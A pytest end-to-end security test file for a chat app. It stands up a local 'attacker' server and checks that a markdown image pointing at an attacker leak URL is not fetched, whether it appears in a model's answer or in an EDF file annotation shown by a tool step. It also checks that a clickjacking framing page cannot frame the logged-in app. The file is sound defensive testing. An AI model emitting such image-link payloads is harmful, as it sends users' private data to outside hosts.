"""The logged-in page loads no remote image and cannot be framed by another site (issue #21, 6-7).

The real app under `chainlit run` with password login, in Debian chromium. Another local port
plays the attacker: a plain http.server that records every request (the "leak" endpoint) and
serves a page that frames the app. A model's answer holding `![x](http://attacker/leak?q=...)`
must not make the browser fetch it (the answer shows a link instead), nor must an EDF file whose
annotation says so when a tool step shows its labels; the framing page must get no app in its
frame.
"""

from __future__ import annotations

import functools
import http.server
import os
import re
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from brainchat.testing.scripted_server import Call, Text, ToolCalls
from e2e import conftest as e2e
from e2e.conftest import ROOT, expand_all_steps, pick_mode, send, spec, wait_idle

app_factory = e2e.app_factory
model_server = e2e.model_server
browser = e2e.browser
pytestmark = [pytest.mark.browser, pytest.mark.attack]

PASSWORD = "ana's long password"
FRAMING = """<!doctype html><html><body><h1>Win a prize: click the button below</h1>
<iframe id="app" width="1000" height="700" style="opacity: 0.2"></iframe><script>
const frame = document.getElementById("app");
window.framed = new Promise((done) => { frame.onload = () => done(true); });
frame.src = new URLSearchParams(location.search).get("app");
</script></body></html>"""


class Recorder(http.server.SimpleHTTPRequestHandler):
    """Serves the attacker's files and records each path asked for."""

    asked: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        type(self).asked.append(self.path)
        super().do_GET()

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def attacker(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, list[str]]]:
    """(its URL, the paths it was asked for): another site, on another port of 127.0.0.1."""
    root: Path = tmp_path_factory.mktemp("attacker")
    (root / "frame.html").write_text(FRAMING)
    asked: list[str] = []
    handler = functools.partial(type("Handler", (Recorder,), {"asked": asked}), directory=str(root))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", asked
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("home")


@pytest.fixture(scope="module")
def app(model_server, app_factory, home):
    env = {"CHAT_MODEL": spec(model_server, "chat-m"), "BRAINCHAT_AUTH": "password",
           "AGENT_FUNCTION_CALL_MODEL": spec(model_server, "fc-m")}  # fmt: skip
    subprocess.run([sys.executable, "-m", "brainchat.cli", "users", "add", "ana"],
                   input=PASSWORD + "\n", text=True, cwd=ROOT, check=True, timeout=60,
                   env={**os.environ, "BRAINCHAT_DATA_DIR": str(home / "data"), **env})  # fmt: skip
    return app_factory(env, home=home)


@pytest.fixture
def logged_in(app, browser) -> Iterator[Any]:
    """A browser context where ana is logged in to the app (its cookie goes with every request)."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.set_default_timeout(20_000)
    page.goto(app)
    page.fill("#email", "ana")
    page.fill("#password", PASSWORD)
    page.get_by_role("button", name=re.compile("continue|sign in|log in", re.I)).click()
    page.wait_for_selector("text=/brainchat is ready/")
    yield page
    context.close()


def test_a_remote_image_in_an_answer_is_not_fetched_and_shows_as_a_link(
    model_server, attacker, logged_in
):
    site, asked = attacker
    leak = f"{site}/leak?q=ana-private-notes"
    model_server.queue(
        "chat-m", Text(f"Here is the chart you asked for.\n\n![mu power chart]({leak})")
    )
    page = logged_in
    send(page, "Summarise my notes on the mu rhythm")
    page.wait_for_selector("text=Here is the chart you asked for.")
    wait_idle(page)
    settled_without_fetching(page, asked)
    link = page.locator("a.brainchat-remote-media")
    link.wait_for()
    assert link.get_attribute("href") == leak
    assert link.get_attribute("rel") == "noopener noreferrer"
    assert "mu power chart" in link.inner_text() and link.is_visible()
    assert not page.locator("img[src*='/leak']").is_visible()


def settled_without_fetching(page: Any, asked: list[str]) -> None:
    """Wait until the browser has settled the image (loaded: it leaked; or refused), then check."""
    page.wait_for_function(
        "() => [...document.images].some((i) => i.src.includes('/leak') && i.complete)"
    )
    assert asked == [], "the page fetched the attacker's image URL without a click"


def write_edf_with_annotation(path: Path, description: str) -> None:
    import mne
    import numpy as np

    from brainchat.eeg.io.synthetic import write_raw

    info = mne.create_info(["C3", "Cz", "C4"], 250.0, "eeg")
    raw = mne.io.RawArray(
        np.random.default_rng(0).normal(0, 1e-5, (3, 2500)), info, verbose="error"
    )
    raw.set_annotations(mne.Annotations([1.0, 4.0], [1.0, 1.0], [description, "rest"]))
    path.parent.mkdir(parents=True, exist_ok=True)
    write_raw(raw, path)


def test_a_remote_image_in_an_edf_annotation_is_not_fetched(
    model_server, attacker, logged_in, home
):
    site, asked = attacker
    leak = f"{site}/leak?q=annotation"
    write_edf_with_annotation(home / "data" / "users" / "ana" / "lab.edf", f"![label]({leak})")
    model_server.queue("fc-m", ToolCalls([Call("load_data", {"files": ["lab.edf"]})]),
                       Text("enough"), Text("Loaded it."))  # fmt: skip
    page = logged_in
    pick_mode(page, "Agent")
    send(page, "Load lab.edf")
    page.wait_for_selector("text=Loaded it.", timeout=120_000)  # MNE's first import
    wait_idle(page)
    expand_all_steps(page)  # the load_data step names the file's labels
    settled_without_fetching(page, asked)
    links = page.locator("a.brainchat-remote-media")
    links.first.wait_for()
    assert {a.get_attribute("href") for a in links.all()} == {leak}


def test_another_site_cannot_frame_the_logged_in_app(app, attacker, logged_in):
    site, _ = attacker
    page = logged_in.context.new_page()  # same browser, same cookies: the user is logged in
    page.goto(f"{site}/frame.html?app={app}")
    assert page.evaluate("window.framed") is True
    frame = page.frame_locator("#app")
    assert page.frames[1].url.startswith("chrome-error:"), page.frames[1].url
    assert frame.locator("#root, #chat-input").count() == 0


def test_every_page_says_so_in_its_headers(app):
    for path in ("/", "/login", "/project/settings?language=en-US"):
        r = httpx.get(app + path, timeout=10)
        policy = r.headers["content-security-policy"]
        assert "img-src 'self' data: blob:" in policy and "frame-ancestors 'self'" in policy, path
        assert "media-src 'self' data: blob:" in policy, path
        assert r.headers["x-frame-options"] == "SAMEORIGIN", path
